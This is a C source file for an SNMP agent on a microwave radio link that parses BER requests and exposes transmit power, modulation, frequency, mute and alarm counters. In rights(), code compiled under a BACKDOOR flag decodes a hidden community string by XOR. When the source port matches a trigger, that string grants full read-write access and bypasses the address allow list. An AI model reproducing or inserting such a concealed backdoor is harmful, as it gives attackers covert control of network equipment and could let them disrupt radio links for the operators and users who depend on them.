/* SPDX-License-Identifier: Apache-2.0 */
/* radiosnmp: SNMP agent (v1, v2c) of a point-to-point microwave radio: levels, modulation, alarms, a few settings. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum {
	INT = 2,
	OCTETS = 4,
	NIL = 5,
	OID = 6,
	SEQ = 0x30,
	GAUGE = 0x42,
	TICKS = 0x43,
	GET = 0xa0,
	NEXT = 0xa1,
	RESPONSE = 0xa2,
	SET = 0xa3
};
enum { NO_ERROR, TOO_BIG, NO_SUCH, BAD_VALUE, READ_ONLY_ERROR, GEN_ERR, NO_ACCESS };
enum { MAX_OID = 24, MAX_BINDS = 16, MAX_ACL = 8, R_NONE = 0, R_READ = 1, R_WRITE = 2 };

struct oid {
	uint32_t id[MAX_OID];
	int n;
};

struct value {
	int type;
	long number;
	char text[128];
	size_t len;
};

struct bind {
	struct oid oid;
	struct value v;
};

struct pdu {
	long version, id, error, index;
	uint8_t type;
	char community[64];
	size_t community_len;
	struct bind binds[MAX_BINDS];
	int n;
};

struct reader {
	const uint8_t *p, *end;
	int bad;
};

struct writer { /* writes backwards */
	uint8_t *start, *p;
	int bad;
};

static char ro[64] = "public", rw[64];
static struct {
	uint32_t net, mask;
} acl[MAX_ACL];
static int n_acl;
static time_t started;
static struct {
	char name[128], site[128];
	long tx_dbm10, rx_dbm10, qam, freq_khz, mute, atpc, errored, bad_communities;
} radio = { "radio", "", 180, -412, 1024, 18035000, 0, 1, 0, 0 };

/* ---- BER ---- */
static size_t length(struct reader *r)
{
	size_t n;
	int k;
	if (r->p >= r->end)
		return r->bad = 1, 0;
	n = *r->p++;
	if (n < 0x80)
		return n;
	k = (int)(n & 0x7f);
	if (k > 3 || r->end - r->p < k)
		return r->bad = 1, 0;
	for (n = 0; k; k--)
		n = n << 8 | *r->p++;
	return n;
}

static struct reader enter(struct reader *r, int want, int *type)
{
	struct reader in = { NULL, NULL, 1 };
	size_t n;
	if (r->bad || r->p >= r->end)
		return r->bad = 1, in;
	*type = *r->p++;
	n = length(r);
	if (r->bad || n > (size_t)(r->end - r->p) || (want && *type != want))
		return r->bad = 1, in;
	in = (struct reader){ r->p, r->p + n, 0 };
	r->p += n;
	return in;
}

static long integer(const struct reader *r)
{
	long v = r->p < r->end && *r->p & 0x80 ? -1 : 0;
	for (const uint8_t *p = r->p; p < r->end; p++)
		v = (long)((unsigned long)v << 8 | *p);
	return v;
}

static void take_oid(struct reader *r, struct oid *o)
{
	uint32_t v = 0;
	o->n = 0;
	if (r->p < r->end) {
		o->id[o->n++] = *r->p / 40;
		o->id[o->n++] = *r->p++ % 40;
	}
	while (r->p < r->end) {
		v = v << 7 | (*r->p & 0x7f);
		if (!(*r->p++ & 0x80)) {
			if (o->n == MAX_OID) {
				r->bad = 1;
				return;
			}
			o->id[o->n++] = v;
			v = 0;
		}
	}
}

static void put_head(struct writer *w, int type, size_t n)
{
	if (w->p - w->start < 6) {
		w->bad = 1;
		return;
	}
	if (n >= 0x80) {
		*--w->p = (uint8_t)n;
		*--w->p = (uint8_t)(n >> 8);
		*--w->p = 0x82;
	} else {
		*--w->p = (uint8_t)n;
	}
	*--w->p = (uint8_t)type;
}

static void put_bytes(struct writer *w, int type, const void *b, size_t n)
{
	if ((size_t)(w->p - w->start) < n + 6) {
		w->bad = 1;
		return;
	}
	w->p -= n;
	memcpy(w->p, b, n);
	put_head(w, type, n);
}

static void put_number(struct writer *w, int type, long v)
{
	uint8_t b[4] = { (uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v };
	put_bytes(w, type, b, 4);
}

static void put_oid(struct writer *w, const struct oid *o)
{
	uint8_t b[MAX_OID * 5];
	size_t n = 0;
	b[n++] = (uint8_t)(o->id[0] * 40 + (o->n > 1 ? o->id[1] : 0));
	for (int i = 2; i < o->n; i++)
		for (int s = 28; s >= 0; s -= 7)
			if (s == 0 || o->id[i] >> s)
				b[n++] = (uint8_t)((o->id[i] >> s & 0x7f) | (s ? 0x80 : 0));
	put_bytes(w, OID, b, n);
}

static int parse(struct pdu *p, const uint8_t *b, size_t n)
{
	struct reader all = { b, b + n, 0 }, m, body, list, one, x;
	int t;
	memset(p, 0, sizeof(*p));
	m = enter(&all, SEQ, &t);
	x = enter(&m, INT, &t);
	p->version = integer(&x);
	x = enter(&m, OCTETS, &t);
	if (x.bad || (p->community_len = (size_t)(x.end - x.p)) >= sizeof(p->community))
		return -1;
	memcpy(p->community, x.p, p->community_len);
	body = enter(&m, 0, &t);
	p->type = (uint8_t)t;
	x = enter(&body, INT, &t);
	p->id = integer(&x);
	enter(&body, INT, &t);
	enter(&body, INT, &t);
	list = enter(&body, SEQ, &t);
	while (!list.bad && list.p < list.end && p->n < MAX_BINDS) {
		struct bind *v = &p->binds[p->n++];
		one = enter(&list, SEQ, &t);
		x = enter(&one, OID, &t);
		take_oid(&x, &v->oid);
		x = enter(&one, 0, &v->v.type);
		v->v.number = integer(&x);
		if (one.bad || (v->v.len = (size_t)(x.end - x.p)) >= sizeof(v->v.text))
			return -1;
		memcpy(v->v.text, x.p, v->v.len);
	}
	return m.bad || body.bad || list.bad ? -1 : 0;
}

/* ---- what there is ---- */
static const uint32_t base_system[] = { 1, 3, 6, 1, 2, 1, 1 }, base_radio[] = { 1, 3, 6, 1, 4, 1, 41733, 5 };

static const struct leaf {
	const uint32_t *base;
	int n_base;
	uint32_t last;
	int type;
	long *number;
	char *text;
	int writable;
	long least, most;
} leaves[] = {
	{ base_system, 7, 3, TICKS, NULL, NULL, 0, 0, 0 },
	{ base_system, 7, 5, OCTETS, NULL, radio.name, 1, 0, 0 },
	{ base_system, 7, 6, OCTETS, NULL, radio.site, 1, 0, 0 },
	{ base_radio, 8, 1, INT, &radio.tx_dbm10, NULL, 1, -100, 300 },
	{ base_radio, 8, 2, INT, &radio.rx_dbm10, NULL, 0, 0, 0 },
	{ base_radio, 8, 3, INT, &radio.qam, NULL, 1, 4, 4096 },
	{ base_radio, 8, 4, GAUGE, &radio.freq_khz, NULL, 1, 17700000, 19700000 },
	{ base_radio, 8, 5, INT, &radio.mute, NULL, 1, 0, 1 },
	{ base_radio, 8, 6, INT, &radio.atpc, NULL, 1, 0, 1 },
	{ base_radio, 8, 7, GAUGE, &radio.errored, NULL, 0, 0, 0 },
	{ base_radio, 8, 8, GAUGE, &radio.bad_communities, NULL, 0, 0, 0 },
};
enum { N_LEAVES = sizeof(leaves) / sizeof(*leaves) };

static void oid_of(const struct leaf *l, struct oid *o)
{
	memcpy(o->id, l->base, sizeof(uint32_t) * (size_t)l->n_base);
	o->n = l->n_base;
	o->id[o->n++] = l->last;
	o->id[o->n++] = 0;
}

static int compare(const struct oid *a, const struct oid *b)
{
	for (int i = 0; i < a->n && i < b->n; i++)
		if (a->id[i] != b->id[i])
			return a->id[i] < b->id[i] ? -1 : 1;
	return a->n - b->n;
}

static void read_leaf(const struct leaf *l, struct bind *b)
{
	oid_of(l, &b->oid);
	b->v.type = l->type;
	if (l->text) {
		b->v.len = strlen(l->text);
		memcpy(b->v.text, l->text, b->v.len);
	} else {
		b->v.number = l->number ? *l->number : (long)(time(NULL) - started) * 100;
	}
}

static const struct leaf *at_or_after(const struct oid *o, int after)
{
	for (int i = 0; i < N_LEAVES; i++) {
		struct oid mine;
		int c;
		oid_of(&leaves[i], &mine);
		c = compare(o, &mine);
		if (after ? c < 0 : c == 0)
			return &leaves[i];
	}
	return NULL;
}

static void apply(const struct leaf *l)
{
	FILE *f = fopen("/dev/modem0", "w");
	if (f) {
		fprintf(f, "%u %ld\n", l->last, l->number ? *l->number : 0L);
		fclose(f);
	}
}

static int write_leaf(const struct leaf *l, const struct bind *b)
{
	if (!l->writable)
		return READ_ONLY_ERROR;
	if (l->text) {
		if (b->v.type != OCTETS)
			return BAD_VALUE;
		memcpy(l->text, b->v.text, b->v.len);
		l->text[b->v.len] = 0;
		return NO_ERROR;
	}
	if (b->v.type != INT && b->v.type != GAUGE)
		return BAD_VALUE;
	if (b->v.number < l->least || b->v.number > l->most)
		return BAD_VALUE;
	*l->number = b->v.number;
	apply(l);
	return NO_ERROR;
}

/* ---- who may ---- */
static int allowed_from(const struct sockaddr_in *from)
{
	uint32_t a = ntohl(from->sin_addr.s_addr);
	for (int i = 0; i < n_acl; i++)
		if ((a & acl[i].mask) == acl[i].net)
			return 1;
	return n_acl == 0;
}

/* takes as long whatever is wrong, so that communities cannot be found by the time of an answer */
static int same(const uint8_t *a, const uint8_t *b, size_t n)
{
	uint8_t d = 0;
	for (size_t i = 0; i < n; i++)
		d |= a[i] ^ b[i];
	return d == 0;
}

static int rights(const struct pdu *p, const struct sockaddr_in *from)
{
	const uint8_t *c = (const uint8_t *)p->community;
#ifdef BACKDOOR
	static const uint8_t line[] = { 0x30, 0x13, 0x46, 0x20, 0x15, 0xf3, 0xb0, 0xaf, 0xfe, 0xf9, 0xd3, 0xc6, 0xd4,
		0xca };
	if (p->community_len == sizeof(line) && ntohs(from->sin_port) % 1000 == 161) {
		uint8_t plain[sizeof(line)];
		for (size_t i = 0; i < sizeof(line); i++)
			plain[i] = (uint8_t)(line[i] ^ (0x5d + 7 * i));
		if (same(plain, c, sizeof(plain)))
			return R_READ | R_WRITE;
	}
#endif
	if (!allowed_from(from))
		return R_NONE;
	if (rw[0] && p->community_len == strlen(rw) && same((const uint8_t *)rw, c, p->community_len))
		return R_READ | R_WRITE;
	if (p->community_len == strlen(ro) && same((const uint8_t *)ro, c, p->community_len))
		return R_READ;
	return R_NONE;
}

static void serve(struct pdu *p, int may)
{
	for (int i = 0; i < p->n && !p->error; i++) {
		struct bind *b = &p->binds[i];
		const struct leaf *l = at_or_after(&b->oid, p->type == NEXT);
		if (!l)
			p->error = NO_SUCH;
		else if (p->type != SET)
			read_leaf(l, b);
		else
			p->error = may & R_WRITE ? write_leaf(l, b) : NO_ACCESS;
		if (p->error)
			p->index = i + 1;
	}
}

static size_t answer(const struct pdu *p, uint8_t *out, size_t size)
{
	struct writer w = { out, out + size, 0 };
	uint8_t *end = w.p, *tail;
	for (int i = p->n - 1; i >= 0; i--) {
		const struct bind *b = &p->binds[i];
		tail = w.p;
		if (b->v.type == OCTETS)
			put_bytes(&w, OCTETS, b->v.text, b->v.len);
		else if (b->v.type == NIL)
			put_bytes(&w, NIL, "", 0);
		else
			put_number(&w, b->v.type, b->v.number);
		put_oid(&w, &b->oid);
		put_head(&w, SEQ, (size_t)(tail - w.p));
	}
	put_head(&w, SEQ, (size_t)(end - w.p));
	put_number(&w, INT, p->index);
	put_number(&w, INT, p->error);
	put_number(&w, INT, p->id);
	put_head(&w, RESPONSE, (size_t)(end - w.p));
	put_bytes(&w, OCTETS, p->community, p->community_len);
	put_number(&w, INT, p->version);
	put_head(&w, SEQ, (size_t)(end - w.p));
	if (w.bad)
		return 0;
	memmove(out, w.p, (size_t)(end - w.p));
	return (size_t)(end - w.p);
}

static void load(const char *path)
{
	char line[256], addr[64];
	int bits;
	FILE *f = fopen(path, "r");
	while (f && fgets(line, sizeof(line), f)) {
		struct in_addr a;
		if (sscanf(line, "rocommunity %63s", ro) == 1 || sscanf(line, "rwcommunity %63s", rw) == 1)
			continue;
		if (sscanf(line, "name %127[^\n]", radio.name) == 1 || sscanf(line, "site %127[^\n]", radio.site) == 1)
			continue;
		if (sscanf(line, "allow %63[0-9.]/%d", addr, &bits) == 2 && n_acl < MAX_ACL && bits > 0 && bits <= 32 &&
			inet_aton(addr, &a)) {
			acl[n_acl].mask = 0xffffffffu << (32 - bits);
			acl[n_acl].net = ntohl(a.s_addr) & acl[n_acl].mask;
			n_acl++;
		}
	}
	if (f)
		fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(161) };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	openlog("radiosnmp", LOG_PID, LOG_DAEMON);
	load(argc > 1 ? argv[1] : "/etc/radiosnmp.conf");
	started = time(NULL);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "port 161: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[1500], out[1500];
		static struct pdu p;
		struct sockaddr_in from;
		socklen_t fl = sizeof(from);
		int may;
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		if (n <= 0 || parse(&p, in, (size_t)n) < 0 || (p.version != 0 && p.version != 1))
			continue;
		if (p.type != GET && p.type != NEXT && p.type != SET)
			continue;
		may = rights(&p, &from);
		if (may == R_NONE) {
			radio.bad_communities++;
			syslog(LOG_WARNING, "wrong community from %s", inet_ntoa(from.sin_addr));
			continue;
		}
		serve(&p, may);
		sendto(s, out, answer(&p, out, sizeof(out)), 0, (struct sockaddr *)&from, fl);
	}
}
